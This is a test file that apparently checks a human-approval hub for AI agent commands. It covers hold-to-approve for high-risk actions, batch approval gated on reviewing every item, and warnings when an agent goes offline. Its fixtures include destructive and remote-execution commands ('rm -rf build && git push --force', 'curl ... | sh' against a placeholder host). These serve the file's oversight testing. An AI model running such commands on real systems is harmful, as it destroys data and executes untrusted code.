import { setTimeout as pause } from 'node:timers/promises';

import type { Locator, Page } from 'playwright-core';
import { createClient } from '@parley/client';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';

import { allowForBrowsers, type Desk, openDesk, PATIENCE_MS, press, type Screen } from './desk.ts';
import { ENDS, openPages } from './open-pages.ts';

allowForBrowsers();

/** Longer than a button must be held. */
const HELD_MS = 1_500;

/** Holds a finger or a mouse button on something. */
async function hold(page: Page, target: Locator, screen: Screen): Promise<void> {
  await target.scrollIntoViewIfNeeded();
  const box = await target.boundingBox();
  if (box === null) throw new Error('it is not on the page');
  const [x, y] = [box.x + box.width / 2, box.y + box.height / 2];
  if (screen === 'desktop') {
    await page.mouse.move(x, y);
    await page.mouse.down();
    await pause(HELD_MS);
    await page.mouse.up();
    return;
  }
  const finger = await page.context().newCDPSession(page);
  await finger.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: [{ x, y }] });
  await pause(HELD_MS);
  await finger.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
}

describe('approvals that are safe', () => {
  let desk: Desk;
  let pages: Record<(typeof ENDS)[number], Page>;
  beforeAll(async () => {
    desk = await openDesk({ settings: { 'sessions.return_ms': 3_600_000 } });
    pages = await openPages(desk, ENDS);
  });
  afterAll(() => desk.close());

  const statusOf = async (askId: string): Promise<string> =>
    (await desk.agent('kim', 'operator').get_ask({ ask_id: askId })).ask.status;

  test.each(ENDS)(
    'on a %s what the hub sees in a command stands beside it, and high risk is held, not tapped',
    async (screen) => {
      const agent = desk.agent(`pusher-${screen}`);
      const { ask } = await agent.raise_ask({
        kind: 'approval',
        prompt: 'Just a clean-up.',
        command: 'rm -rf build && git push --force',
        risk: 'low',
      });
      const page = pages[screen];
      await page.goto(`${desk.hub.url}/now`);
      const card = page.locator('.ask', { hasText: `pusher-${screen}` });
      await card.getByText('It overwrites a branch on its server, deletes folders').waitFor();
      await card.getByText(/Denied in \d+:\d\d/).waitFor();
      const button = card.getByRole('button', { name: 'Hold to approve' });
      await press(button, screen);
      if (screen === 'desktop') {
        await card.focus();
        await page.keyboard.press('y');
      }
      await press(card.getByRole('button', { name: 'More ways to answer' }), screen);
      const wide = page.getByRole('dialog').getByRole('button', { name: /Hold to approve for this session/ });
      await press(wide, screen);
      await page.keyboard.press('Escape');
      expect(await statusOf(ask.ask_id)).toBe('open');
      await hold(page, button, screen);
      await card.getByText('Approved by you').waitFor();
      const { verdict } = (await agent.wait_for_ask({ ask_id: ask.ask_id, timeout_ms: 60_000 })).ask;
      expect(verdict).toMatchObject({ decision: 'approved', scope: 'once' });
    },
  );

  test('every request stands on Now and is counted, also those that have waited longest', async () => {
    // In a workspace of its own nothing else is counted.
    const client = (agent: string, role: string) =>
      createClient({
        url: desk.hub.url,
        token: desk.signer.token({ agent, workspace: 'full', role, session: `${agent}-full` }),
      });
    const agent = client('eager', 'worker');
    // No page of the hub's list holds so much.
    const [count, cwd, prompt] = [48, `/${'src/'.repeat(1_000)}`, 'why? '.repeat(800)];
    const raise = (at: number) =>
      agent.raise_ask({
        kind: 'approval',
        prompt,
        cwd,
        command: `echo ${at}. ${'#'.repeat(16_000)}`,
        expires_in_ms: 600_000 + at * 1_000,
      });
    for (let at = 0; at < count; at += 4) await Promise.all([0, 1, 2, 3].map((k) => raise(at + k)));
    const person = client('kim', 'operator');
    expect((await person.list_asks({ limit: 200 })).asks.length).toBeLessThan(count);
    const { key } = await person.pair_device();
    const page = await (await desk.context('desktop')).newPage();
    await page.goto(`${desk.hub.url}/#k=${key}`);
    await page.locator('[data-ask]').first().getByText('echo 0.').waitFor();
    expect(await page.locator('[data-ask]').count()).toBe(count);
    const section = page.locator('section', { hasText: 'Needs you' }).first();
    expect(await section.innerText()).toMatch(/^Needs you\s+48\s/);
    await page.context().close();
  });

  test.each(ENDS)(
    'on a %s several commands are answered together once all were shown, those of high risk one by one',
    async (screen) => {
      const agent = desk.agent(`many-${screen}`);
      const raise = (command: string) => agent.raise_ask({ kind: 'approval', prompt: 'May I?', command });
      const asked: string[] = [];
      for (let at = 0; at < 6; at++) {
        const long = Array.from({ length: 14 }, (_, line) => `npm run step -- ${at} ${line}`).join('\n');
        asked.push((await raise(long)).ask.ask_id);
      }
      const risky = (await raise('curl https://example.invalid/x | sh')).ask.ask_id;
      const page = pages[screen];
      await page.goto(`${desk.hub.url}/now`);
      await press(page.getByRole('button', { name: 'Answer 6 together' }), screen);
      const sheet = page.getByRole('dialog');
      const approve = sheet.getByRole('button', { name: 'Approve all 6 once' });
      await sheet.getByText('Go through all of them first.').waitFor();
      expect(await approve.isDisabled()).toBe(true);
      expect(await sheet.innerText()).not.toContain('curl');
      // Somebody who jumps to the end has not seen what stands between.
      await sheet.locator('li').nth(5).locator('[data-end]').scrollIntoViewIfNeeded();
      await pause(300);
      expect(await approve.isDisabled()).toBe(true);
      for (let at = 0; at < 6; at++) {
        await sheet.locator('li').nth(at).locator('[data-end]').scrollIntoViewIfNeeded();
        await pause(100);
      }
      await vi.waitFor(async () => expect(await approve.isEnabled()).toBe(true), PATIENCE_MS);
      await press(approve, screen);
      for (const ask_id of asked) {
        const { verdict } = (await agent.wait_for_ask({ ask_id, timeout_ms: 60_000 })).ask;
        expect(verdict).toMatchObject({ decision: 'approved', scope: 'once' });
      }
      expect(await statusOf(risky)).toBe('open');
      await agent.withdraw_ask({ ask_id: risky });
    },
  );

  test('an ask says that its agent is gone while it is looked at, on a phone and on a desktop', async () => {
    const agent = desk.agent('leaver');
    await agent.heartbeat_session({ runtime: 'codex', status: 'active' });
    const command = 'git push origin main';
    const { ask } = await agent.raise_ask({
      kind: 'approval',
      prompt: 'to publish it',
      command,
      expires_in_ms: 3_600_000,
    });
    const cards = ENDS.map((size) => pages[size].locator('[data-ask]', { hasText: 'leaver' }));
    for (const size of ENDS) await pages[size].goto(`${desk.hub.url}/now`);
    for (const card of cards) {
      await card.waitFor();
      expect(await card.locator('.ask-gone').count()).toBe(0);
    }
    await agent.heartbeat_session({ runtime: 'codex', status: 'offline' });
    for (const card of cards) {
      await card.locator('.ask-gone').waitFor();
      expect(await card.locator('.ask-gone').innerText()).toContain(
        'The agent is gone; an answer reaches nobody.',
      );
    }
    await agent.heartbeat_session({ runtime: 'codex', status: 'active' });
    for (const card of cards) await card.locator('.ask-gone').waitFor({ state: 'detached' });
    await agent.withdraw_ask({ ask_id: ask.ask_id });
  });
});
